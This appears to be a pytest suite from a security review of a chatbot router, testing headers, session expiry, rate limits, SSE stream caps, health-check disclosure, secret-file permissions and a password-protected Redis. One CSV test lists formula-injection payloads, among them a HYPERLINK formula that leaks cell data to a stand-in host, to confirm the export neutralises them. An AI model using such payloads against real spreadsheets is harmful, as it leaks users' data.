"""The public side after the security review, against a real Redis (and real shell scripts where it is
about `make run`): security headers, web sessions that end, rate limits shared by router processes,
one Redis pub/sub per process behind the SSE streams, CSV cells that cannot run as formulas, a /healthz
that tells outsiders only up or down, a private var/ and a Redis with a password and a memory cap,
conversations that expire, and Rasa without telemetry."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import shutil
import socket
import stat
import subprocess
import time
from datetime import datetime, timedelta
from pathlib import Path

import aiohttp
import pytest
import redis as redis_sync
import redis.exceptions
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from router import keys
from router.adapters.conversations import ConversationStore
from router.app import Deps, create_app
from router.domain.tickets import CST, Location, Topic, new_ticket
from router.services.reports import compute_report, report_to_csv
from router.settings import Settings
from tests.conftest import free_port, shared_domain
from tests.fakes.rasa_server import FakeRasa

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "api-token-for-tests"
SESSIONS = "/api/v1/channels/web/sessions"
MESSAGES = "/api/v1/channels/web/messages"
HISTORY = "/api/v1/channels/web/history"
EVENTS = "/api/v1/channels/web/events"


def build_app(redis, rasa: FakeRasa, var_dir: Path, **overrides) -> web.Application:
    """The router as create_app builds it (same middlewares, the per-process event hub), over the test's
    Redis and a stand-in Rasa."""
    settings = Settings(api_token=TOKEN, rasa_url=rasa.url, rasa_token=rasa.token, var_dir=var_dir, **overrides)
    return create_app(settings, Deps(redis=redis, domain=shared_domain(), rasa_timeout=2), with_scheduler=False)


@pytest.fixture
async def start(redis, rasa, tmp_path):
    """Start a router process (an app on its own port) over the shared Redis; stops them all afterwards."""
    clients: list[TestClient] = []

    async def start(**overrides) -> TestClient:
        client = TestClient(TestServer(build_app(redis, rasa, tmp_path, **overrides)))
        await client.start_server()
        clients.append(client)
        return client

    yield start
    for c in clients:
        await c.close()


async def new_session(client: TestClient, ip: str = "192.0.2.10") -> str:
    resp = await client.post(SESSIONS, headers={"X-Forwarded-For": ip})
    assert resp.status == 200, await resp.text()
    return (await resp.json())["session_id"]


async def say(client: TestClient, sid: str, text: str = "你好", ip: str = "192.0.2.10"):
    return await client.post(MESSAGES, json={"session_id": sid, "text": text}, headers={"X-Forwarded-For": ip})


async def read_until(resp, prefix: bytes, timeout: float = 5) -> bytes:
    async def go() -> bytes:
        while True:
            line = await resp.content.readline()
            if not line:
                raise EOFError("stream ended")
            if line.startswith(prefix):
                return line
    return await asyncio.wait_for(go(), timeout)


# ------------------------------------------------------------------------------------------------ 1 headers


async def test_public_pages_api_and_stream_carry_security_headers(start):
    client = await start()
    sid = await new_session(client)
    await say(client, sid)
    for resp in (await client.get("/"), await client.post(SESSIONS), await client.get("/static/chat.js"),
                 await client.get(HISTORY, params={"session_id": sid})):
        assert resp.headers["X-Frame-Options"] == "DENY"
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]
        assert resp.headers["Referrer-Policy"]
    stream = await client.get(EVENTS, params={"session_id": sid})
    assert stream.headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'none'" in stream.headers["Content-Security-Policy"]
    stream.close()


async def test_console_keeps_its_own_headers(redis, rasa, tmp_path, monkeypatch):
    monkeypatch.delenv("VAR_DIR", raising=False)
    app = build_app(redis, rasa, tmp_path)
    async with TestClient(TestServer(app)) as client:
        resp = await client.get("/console/login")
        assert resp.status == 200
        [csp] = resp.headers.getall("Content-Security-Policy")
        assert "form-action 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
        assert resp.headers.getall("Referrer-Policy") == ["same-origin"]
        assert resp.headers["X-Frame-Options"] == "DENY" and resp.headers["X-Content-Type-Options"] == "nosniff"


# ----------------------------------------------------------------------------------------------- 2 sessions


async def test_a_web_session_expires_after_inactivity(start):
    client = await start(web_session_ttl=1)
    resp = await client.post(SESSIONS)
    body = await resp.json()
    assert body["expires_in"] == 1
    sid = body["session_id"]
    assert (await say(client, sid)).status == 200
    await asyncio.sleep(1.3)
    resp = await say(client, sid, "还在吗")
    assert resp.status == 403 and (await resp.json())["error"]["code"] == "bad_session"
    resp = await client.get(HISTORY, params={"session_id": sid})
    assert resp.status == 403


async def test_activity_keeps_a_web_session_alive(start, redis):
    client = await start(web_session_ttl=600)
    sid = await new_session(client)
    key = keys.web_session(sid.rpartition(".")[0])
    assert 590 <= await redis.ttl(key) <= 600
    await redis.expire(key, 5)
    assert (await say(client, sid)).status == 200
    assert await redis.ttl(key) > 590
    await redis.expire(key, 5)
    assert (await client.get(HISTORY, params={"session_id": sid})).status == 200
    assert await redis.ttl(key) > 590


async def test_clear_conversation_ends_the_session_on_the_server(start, redis):
    client = await start()
    sid = await new_session(client)
    body = await (await say(client, sid, "我要反映噪音")).json()
    conv_id = body["conversation"]["id"]
    resp = await client.post(f"{SESSIONS}/end", json={"session_id": sid})
    assert resp.status == 200 and (await resp.json())["ended"] is True
    assert (await ConversationStore(redis).require(conv_id)).state.value == "closed"
    assert (await client.get(HISTORY, params={"session_id": sid})).status == 403
    assert (await say(client, sid)).status == 403
    # the next resident at the kiosk starts from nothing
    fresh = await new_session(client)
    history = await (await client.get(HISTORY, params={"session_id": fresh})).json()
    assert history == {"conversation": None, "messages": []}
    # ending twice, or a forged id, is harmless
    assert (await client.post(f"{SESSIONS}/end", json={"session_id": sid})).status in (200, 403)
    assert (await client.post(f"{SESSIONS}/end", json={"session_id": "abc.123"})).status == 403
    broken = await client.post(f"{SESSIONS}/end", data=b"{broken", headers={"Content-Type": "application/json"})
    assert broken.status == 400 and (await broken.json())["error"]["code"] == "invalid_json"


async def test_clearing_while_waiting_for_a_person_takes_it_out_of_the_queue(start, redis):
    client = await start()
    sid = await new_session(client)
    conv_id = (await (await say(client, sid, "转人工")).json())["conversation"]["id"]
    store = ConversationStore(redis)
    await store.move(conv_id, "handoff", reason="requested")
    assert (await client.post(f"{SESSIONS}/end", json={"session_id": sid})).status == 200
    assert (await store.require(conv_id)).state.value == "closed"
    assert await store.queued() == []
    assert (await store.transcript(conv_id))[-1]["author"] == "system"


# -------------------------------------------------------------------------------------------- 3 rate limits


async def test_session_creation_is_limited_per_client_address(start):
    client = await start(rate_sessions_per_ip=3)
    for _ in range(3):
        await new_session(client, ip="203.0.113.5")
    resp = await client.post(SESSIONS, headers={"X-Forwarded-For": "203.0.113.5"})
    assert resp.status == 429
    assert 1 <= int(resp.headers["Retry-After"]) <= 60
    err = (await resp.json())["error"]
    assert err["code"] == "rate_limited" and err["retry_after"] == int(resp.headers["Retry-After"])
    await new_session(client, ip="203.0.113.6")  # another resident is not affected


async def test_forwarded_for_from_an_untrusted_peer_is_not_believed(start):
    client = await start(rate_sessions_per_ip=2, trusted_proxies=())
    for i in range(2):
        await new_session(client, ip=f"198.51.100.{i}")
    resp = await client.post(SESSIONS, headers={"X-Forwarded-For": "198.51.100.99"})
    assert resp.status == 429


async def test_message_limit_per_session_holds_across_router_processes(start):
    one = await start(rate_messages_per_session=3)
    two = await start(rate_messages_per_session=3)
    sid = await new_session(one)
    statuses = [(await say(c, sid, f"第{i}条")).status for i, c in enumerate([one, two, one, two])]
    assert statuses == [200, 200, 200, 429]
    other = await new_session(two)
    assert (await say(two, other)).status == 200


async def test_message_limit_per_address(start):
    client = await start(rate_messages_per_ip=2)
    a, b = await new_session(client), await new_session(client)
    assert (await say(client, a)).status == 200
    assert (await say(client, b)).status == 200
    assert (await say(client, a)).status == 429
    assert (await say(client, a, ip="192.0.2.77")).status == 200


async def test_history_and_stream_reads_are_limited_per_session(start):
    client = await start(rate_reads_per_session=2)
    sid = await new_session(client)
    await say(client, sid)
    assert (await client.get(HISTORY, params={"session_id": sid})).status == 200
    stream = await client.get(EVENTS, params={"session_id": sid})
    assert stream.status == 200
    stream.close()
    resp = await client.get(HISTORY, params={"session_id": sid})
    assert resp.status == 429 and resp.headers["Retry-After"]


async def test_internal_callers_with_the_token_are_not_limited(start):
    client = await start(rate_messages_per_session=1, rate_messages_per_ip=1)
    for i in range(3):
        resp = await client.post(MESSAGES, json={"session_id": "contract-1", "text": f"第{i}条"},
                                 headers={"Authorization": f"Bearer {TOKEN}"})
        assert resp.status == 200


# ------------------------------------------------------------------------------------------------- 4 SSE


async def _pubsub_clients(redis) -> int:
    return len([c for c in await redis.client_list(_type="pubsub")])


async def test_streams_share_one_redis_pubsub_per_process(start, redis):
    client = await start()
    sessions = []
    for i in range(6):
        sid = await new_session(client, ip=f"192.0.2.{i}")
        conv = (await (await say(client, sid, ip=f"192.0.2.{i}")).json())["conversation"]["id"]
        sessions.append((sid, conv))
    streams = []
    for sid, _ in sessions:
        resp = await client.get(EVENTS, params={"session_id": sid})
        await read_until(resp, b": connected")
        streams.append(resp)
    assert await _pubsub_clients(redis) == 1
    store = ConversationStore(redis)
    await store.append(sessions[2][1], "operator", "给第三位居民")
    await store.append(sessions[4][1], "operator", "给第五位居民")
    third = json.loads((await read_until(streams[2], b"data: "))[6:])
    fifth = json.loads((await read_until(streams[4], b"data: "))[6:])
    assert third["text"] == "给第三位居民" and fifth["text"] == "给第五位居民"
    with pytest.raises(asyncio.TimeoutError):
        await read_until(streams[0], b"data: ", timeout=0.5)
    for s in streams:
        s.close()


async def test_streams_are_capped_per_session_and_per_process(start):
    client = await start(sse_max_per_session=2, sse_max_per_process=3)
    sid = await new_session(client)
    await say(client, sid)
    open_ = [await client.get(EVENTS, params={"session_id": sid}) for _ in range(2)]
    assert [r.status for r in open_] == [200, 200]
    resp = await client.get(EVENTS, params={"session_id": sid})
    assert resp.status == 429 and resp.headers["Retry-After"]
    assert (await resp.json())["error"]["code"] == "too_many_streams"
    other = await new_session(client, ip="192.0.2.99")
    await say(client, other, ip="192.0.2.99")
    third = await client.get(EVENTS, params={"session_id": other})
    assert third.status == 200
    fourth_sid = await new_session(client, ip="192.0.2.98")
    await say(client, fourth_sid, ip="192.0.2.98")
    resp = await client.get(EVENTS, params={"session_id": fourth_sid})
    assert resp.status == 429
    for r in [*open_, third]:
        r.close()


async def test_open_streams_end_promptly_when_the_router_shuts_down(redis, rasa, tmp_path):
    client = TestClient(TestServer(build_app(redis, rasa, tmp_path)))
    await client.start_server()
    sid = await new_session(client)
    await say(client, sid)
    stream = await client.get(EVENTS, params={"session_id": sid})
    await read_until(stream, b": connected")
    started = time.monotonic()
    try:
        await asyncio.wait_for(client.server.close(), timeout=10)
    finally:
        elapsed = time.monotonic() - started
        stream.close()
        await client.close()
    assert elapsed < 3, f"shutdown waited {elapsed:.1f}s for open streams"


async def test_a_stream_gets_events_after_redis_restarts(start, redis, redis_server):
    """A Redis restart ends the streams (the page reconnects and replays from the transcript) and the
    hub subscribes again for the next ones."""
    client = await start()
    sid = await new_session(client)
    conv = (await (await say(client, sid)).json())["conversation"]["id"]
    stream = await client.get(EVENTS, params={"session_id": sid})
    await read_until(stream, b": connected")
    redis_server.stop()
    redis_server.start()
    with pytest.raises((EOFError, aiohttp.ClientPayloadError, ConnectionError)):
        await read_until(stream, b"data: ", timeout=15)
    stream.close()
    # As the page does: reconnect (with ``since``) until a stream stays open; what the operator wrote
    # meanwhile is replayed, so nothing is lost however many reconnects it takes.
    since, sent, deadline = time.time(), False, time.monotonic() + 30
    while True:
        assert time.monotonic() < deadline, "no stream got the operator's message"
        stream = await client.get(EVENTS, params={"session_id": sid, "since": since})
        try:
            if stream.status != 200:
                await asyncio.sleep(0.2)
                continue
            await read_until(stream, b": connected")
            if not sent:
                await ConversationStore(redis).append(conv, "operator", "重连之后")
                sent = True
            event = json.loads((await read_until(stream, b"data: ", timeout=10))[6:])
            assert event["text"] == "重连之后"
            break
        except (EOFError, aiohttp.ClientPayloadError):
            continue
        finally:
            stream.close()


# ------------------------------------------------------------------------------------------ 5 CSV reports


def test_report_csv_cells_cannot_run_as_formulas():
    at = datetime(2026, 11, 25, 9, 30, tzinfo=CST)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    tickets = [new_ticket(f"SZ20261125-{i:06d}", at=at + timedelta(minutes=i), actor="t", channel="web",
                          text="路灯坏了", topic=Topic(l1="城乡建设", department=d),
                          location=Location(district=d))
               for i, d in enumerate([*hostile, "南山区"])]
    rows = list(csv.DictReader(io.StringIO(report_to_csv(compute_report(tickets)), newline="")))
    groups = {r["group"] for r in rows}
    for value in hostile:
        assert "'" + value in groups, value
    assert "南山区" in groups
    for r in rows:
        assert r["group"][0] not in "=+-@\t\r"
        assert r["volume"] == "1"  # numbers stay numbers


# --------------------------------------------------------------------------------------------- 6 /healthz


async def _ok(request: web.Request) -> web.Response:
    return web.json_response({"status": "ok"})


@pytest.fixture
async def health_client(redis, tmp_path):
    actions = web.Application()
    actions.router.add_get("/health", _ok)
    runner = web.AppRunner(actions)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    actions_url = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}"  # type: ignore[union-attr]
    rasa = FakeRasa()
    await rasa.start()
    rasa_url = rasa.url
    await rasa.stop()  # dead: its address must not leak

    app = create_app(Settings(api_token=TOKEN, rasa_url=rasa_url, rasa_token=rasa.token, actions_url=actions_url,
                              var_dir=tmp_path), Deps(redis=redis, domain=shared_domain()), with_scheduler=False)
    async with TestClient(TestServer(app)) as client:
        yield client, rasa_url, actions_url
    await runner.cleanup()


async def test_public_healthz_says_only_up_or_down(health_client):
    client, rasa_url, actions_url = health_client
    resp = await client.get("/healthz")
    assert resp.status == 503
    raw = await resp.text()
    body = json.loads(raw)
    assert {k: v for k, v in body["components"].items()} == {
        "redis": {"ok": True}, "rasa": {"ok": False}, "actions": {"ok": True}, "router": {"ok": True}}
    for secret in ("127.0.0.1", rasa_url.rsplit(":", 1)[1], actions_url.rsplit(":", 1)[1], "error", "Error",
                   "model", "latency"):
        assert secret not in raw, secret


async def test_healthz_details_need_the_internal_token(health_client):
    client, rasa_url, _ = health_client
    resp = await client.get("/healthz", headers={"Authorization": f"Bearer {TOKEN}"})
    assert resp.status == 503
    body = await resp.json()
    assert body["components"]["rasa"]["ok"] is False and body["components"]["rasa"]["error"]
    assert "latency_ms" in body["components"]["redis"]
    resp = await client.get("/healthz", headers={"Authorization": "Bearer wrong"})
    assert "error" not in (await resp.json())["components"]["rasa"]


async def test_health_check_warns_when_redis_memory_passes_80_percent(health_client, redis, caplog):
    client, _, _ = health_client
    used = int((await redis.info("memory"))["used_memory"])
    await redis.config_set("maxmemory", str(int(used / 0.85)))
    try:
        with caplog.at_level(logging.WARNING, logger="router.views.health"):
            await client.get("/healthz")
    finally:
        await redis.config_set("maxmemory", "0")
    assert any("memory" in r.getMessage().lower() for r in caplog.records if r.levelno >= logging.WARNING)


# ------------------------------------------------------------------------------------ 7, 8, 9 scripts, Redis


def _env_without_stack_settings(tmp: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("REDIS_", "OWN_REDIS", "RASA_", "ROUTER_", "CONSOLE_", "VOICE_WEBHOOK_"))
           and k not in ("VAR_DIR", "ACTIONS_URL", "ACTION_ENDPOINT_URL", "PUBLIC_URL")}
    env["VAR_DIR"] = str(tmp / "var")
    env["HOME"] = str(tmp / "home")
    return env


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _source_env(env: dict[str, str], *names: str) -> dict[str, str]:
    script = "source scripts/env.sh >/dev/null && " + " && ".join(f'printf "%s\\n" "${name}"' for name in names)
    out = subprocess.run(["bash", "-c", script], cwd=ROOT, env=env, capture_output=True, text=True, check=True)
    return dict(zip(names, out.stdout.splitlines(), strict=True))


def test_env_sh_keeps_var_and_secrets_private(tmp_path):
    env = _env_without_stack_settings(tmp_path)
    var = tmp_path / "var"
    var.mkdir(mode=0o755)
    os.chmod(var, 0o755)
    (var / "api-token").write_text("made-before-this-fix")
    os.chmod(var / "api-token", 0o644)
    got = _source_env(env, "REDIS_URL", "REDIS_PASSWORD", "REDIS_MAXMEMORY", "RASA_TELEMETRY_ENABLED")
    assert _mode(var) == 0o700
    for name in ("api-token", "rasa-token", "console-secret", "voice-password", "redis-password"):
        assert _mode(var / name) == 0o600, name
    password = (var / "redis-password").read_text().strip()
    assert len(password) >= 32
    assert got["REDIS_PASSWORD"] == password and f":{password}@127.0.0.1:" in got["REDIS_URL"]
    assert got["REDIS_MAXMEMORY"] == "1gb"
    assert got["RASA_TELEMETRY_ENABLED"] == "false"
    # a second run keeps the same password
    assert _source_env(env, "REDIS_PASSWORD")["REDIS_PASSWORD"] == password


def test_env_sh_turns_rasa_telemetry_off(tmp_path):
    rasa_python = ROOT / ".venv-bot" / "bin" / "python"
    if not rasa_python.exists():
        pytest.skip("the bot environment (.venv-bot) is not installed")
    env = _env_without_stack_settings(tmp_path)
    (tmp_path / "home").mkdir()
    script = ('source scripts/env.sh >/dev/null && exec .venv-bot/bin/python -c '
              '"import rasa.telemetry as t; print(t.initialize_telemetry())"')
    out = subprocess.run(["bash", "-c", script], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert out.stdout.strip().splitlines()[-1] == "False", out.stdout + out.stderr


def test_make_run_starts_its_redis_private_with_a_password_and_a_memory_cap(tmp_path):
    """run.sh as `make run` runs it (setup skipped, honcho replaced by a stand-in that prints the
    Procfile); then the Procfile's redis line is started for real."""
    root = tmp_path / "root"
    (root / "scripts").mkdir(parents=True)
    for name in ("env.sh", "run.sh"):
        shutil.copy2(ROOT / "scripts" / name, root / "scripts" / name)
    honcho = root / ".venv" / "bin" / "honcho"
    honcho.parent.mkdir(parents=True)
    honcho.write_text('#!/bin/sh\ncat "$2"\n')
    honcho.chmod(0o755)
    env = _env_without_stack_settings(tmp_path)
    env.update(STACK_SKIP_SETUP="1", OWN_REDIS_PORT=str(free_port()))
    out = subprocess.run([str(root / "scripts" / "run.sh")], cwd=root, env=env, capture_output=True, text=True,
                         timeout=60)
    assert out.returncode == 0, out.stderr
    procfile = {line.split(":", 1)[0]: line.split(":", 1)[1].strip() for line in out.stdout.splitlines() if line}
    var = tmp_path / "var"
    password = (var / "redis-password").read_text().strip()
    assert password not in out.stdout, "the password must not be on a command line (ps shows it)"
    assert _mode(var) == 0o700 and _mode(var / "redis") == 0o700
    assert "--maxmemory 1gb" in procfile["redis"] and "--maxmemory-policy noeviction" in procfile["redis"]
    proc = subprocess.Popen(["bash", "-c", procfile["redis"]], cwd=root, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        port = int(env["OWN_REDIS_PORT"])
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.05)
        with pytest.raises(redis.exceptions.AuthenticationError):
            redis_sync.Redis(port=port).ping()
        r = redis_sync.Redis(port=port, password=password, decode_responses=True)
        assert r.ping()
        assert r.config_get("maxmemory")["maxmemory"] == str(1024 ** 3)
        assert r.config_get("maxmemory-policy")["maxmemory-policy"] == "noeviction"
        r.set("probe", "1")
        r.close()
        for path in (var / "redis").rglob("*"):
            assert not (_mode(path) & 0o077), f"{path} is readable by others"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


async def test_conversations_and_transcripts_expire_unless_active(redis):
    assert Settings().conversation_retention_days == 90
    store = ConversationStore(redis, retention_seconds=1000)
    conv = await store.current("web", "resident-ttl")
    await store.append(conv.id, "resident", "你好")
    for key in (keys.conversation(conv.id), keys.conversation_transcript(conv.id),
                keys.conversation_of_user("web", "resident-ttl")):
        assert 990 <= await redis.ttl(key) <= 1000, key
    await redis.expire(keys.conversation(conv.id), 10)
    await redis.expire(keys.conversation_transcript(conv.id), 10)
    await store.touch(conv.id)
    await store.append(conv.id, "bot", "您好")
    assert await redis.ttl(keys.conversation(conv.id)) > 990
    assert await redis.ttl(keys.conversation_transcript(conv.id)) > 990
    await redis.expire(keys.conversation_of_user("web", "resident-ttl"), 10)
    assert (await store.current("web", "resident-ttl")).id == conv.id
    assert await redis.ttl(keys.conversation_of_user("web", "resident-ttl")) > 990
    default = ConversationStore(redis)
    other = await default.current("wechat", "o-ttl")
    assert 89 * 86400 < await redis.ttl(keys.conversation(other.id)) <= 90 * 86400


async def test_a_burst_waits_for_the_bounded_redis_pool_instead_of_opening_more_connections(redis_server):
    from router.app import connect_redis

    client = connect_redis(redis_server.url, max_connections=3)
    watcher = redis_sync.Redis.from_url(redis_server.url)
    try:
        before = len(watcher.client_list())
        # twenty requests at once, each holding its connection for a moment: all are answered
        results = await asyncio.gather(*(client.blpop([f"rsa-test:none:{i}"], timeout=0.2) for i in range(20)))
        assert results == [None] * 20
        assert len(watcher.client_list()) - before <= 3
    finally:
        await client.aclose()
        watcher.close()
